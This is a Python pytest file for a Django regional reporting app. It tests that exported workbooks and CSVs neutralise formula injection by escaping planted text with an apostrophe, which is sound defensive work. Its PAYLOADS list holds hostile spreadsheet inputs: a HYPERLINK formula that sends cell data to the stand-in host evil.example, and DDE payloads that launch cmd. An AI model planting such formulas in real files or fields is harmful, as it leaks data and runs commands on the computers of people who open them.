"""Formula injection: no workbook or CSV the application writes carries user text as a live
formula (issue #19 item 17).

Free text of Klaten (report problems/solutions, budget line names, an agency's short and
full name, the region's data contact) is set to formulas; then every GET URL of the isolation
matrix is fetched by a user allowed to reach it, and each workbook or CSV it answers is
opened: no formula cell at all, and every planted text is escaped with a leading apostrophe.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from regions.models import Agency, Region, User
from reporting.imports import services as importer
from reporting.models import BudgetLine, Report
from tests.isolation.framework import ANONYMOUS, all_cases

pytestmark = pytest.mark.django_db

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "=1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
)
MARKERS = ("HYPERLINK", "cmd|", "SUM(1+1)", "+1+1")


def _plant(*, short_name: bool = False) -> None:
    """Formulas in Klaten's free text (the short name only where no case looks it up)."""
    report = (
        Report.objects.filter(region__code="33.10", service_type__code="K-KES-01")
        .order_by("-period__year", "-period__quarter")
        .first()
    )
    Report.objects.filter(region__code="33.10").update(problems=PAYLOADS[0], solutions=PAYLOADS[1])
    BudgetLine.objects.filter(report__region__code="33.10").update(
        activity_name=PAYLOADS[2], sub_activity_name=PAYLOADS[4]
    )
    if not BudgetLine.objects.filter(report=report).exists():
        BudgetLine.objects.create(report=report, order=1, activity_name=PAYLOADS[2])
    Agency.objects.filter(region__code="33.10", short_name="DINKES").update(name=PAYLOADS[0])
    if short_name:
        Agency.objects.filter(region__code="33.10", short_name="DINKES").update(
            short_name=PAYLOADS[3]
        )
    Region.objects.filter(code="33.10").update(contact_name=PAYLOADS[1])


def _check_cell(where: str, value: object) -> None:
    if isinstance(value, str) and any(m in value for m in MARKERS):
        assert value.startswith("'"), f"{where}: live formula text {value!r}"


def _check_xlsx(where: str, body: bytes) -> int:
    wb = openpyxl.load_workbook(io.BytesIO(body))
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (
                    f"{where} {ws.title}!{cell.coordinate}: formula {cell.value!r}"
                )
                _check_cell(f"{where} {ws.title}!{cell.coordinate}", cell.value)
                seen += isinstance(cell.value, str) and any(m in cell.value for m in MARKERS)
    return seen


def _check_csv(where: str, body: str) -> int:
    seen = 0
    for delimiter in (";", ","):
        for row in csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=delimiter):
            for value in row:
                _check_cell(where, value)
                seen += any(m in value for m in MARKERS)
    return seen


GETS = {(c.url_name, c.label): c for c in all_cases() if c.method == "get"}


def test_every_workbook_and_csv_keeps_user_text_inert():
    _plant()
    files = planted = 0
    for case in GETS.values():
        allowed = sorted(u for u in case.allowed if u != ANONYMOUS)
        if not allowed:
            continue
        username = "bangda.admin" if "bangda.admin" in allowed else allowed[0]
        client = Client(raise_request_exception=False)
        client.force_login(User.objects.get(username=username))
        url = reverse(case.url_name, kwargs=case.kwargs()) + (
            f"?{case.query}" if case.query else ""
        )
        response = client.get(url, headers=case.headers)
        if response.status_code != 200:
            continue
        kind = response.get("Content-Type", "")
        body = b"".join(response.streaming_content) if response.streaming else response.content
        if "spreadsheetml" in kind:
            files += 1
            planted += _check_xlsx(case.id, body)
        elif kind.startswith("text/csv"):
            files += 1
            planted += _check_csv(case.id, body.decode("utf-8-sig"))
    assert files >= 5, f"only {files} files were generated"
    assert planted > 0, "no planted text reached any file: the test checks nothing"


def test_quarterly_import_workbook_escapes_free_text_and_reads_it_back():
    _plant(short_name=True)
    report = (
        Report.objects.filter(region__code="33.10", service_type__code="K-KES-01")
        .order_by("-period__year", "-period__quarter")
        .select_related("period", "region")
        .first()
    )
    body = importer.build_workbook(
        User.objects.get(username="klaten.dinkes"), report.region, report.period
    )
    assert _check_xlsx("import", body) > 0
    wb = openpyxl.load_workbook(io.BytesIO(body))
    values = {c.value for row in wb["Layanan"].iter_rows(min_row=2) for c in row}
    assert "'" + PAYLOADS[1] in values  # solutions: escaped for Excel
    assert "'" + PAYLOADS[3] in values  # the agency's short name
    assert importer._cell("'" + PAYLOADS[1]) == PAYLOADS[1]  # and read back as typed
    assert importer._cell("'ordinary") == "'ordinary"  # an apostrophe before text stays
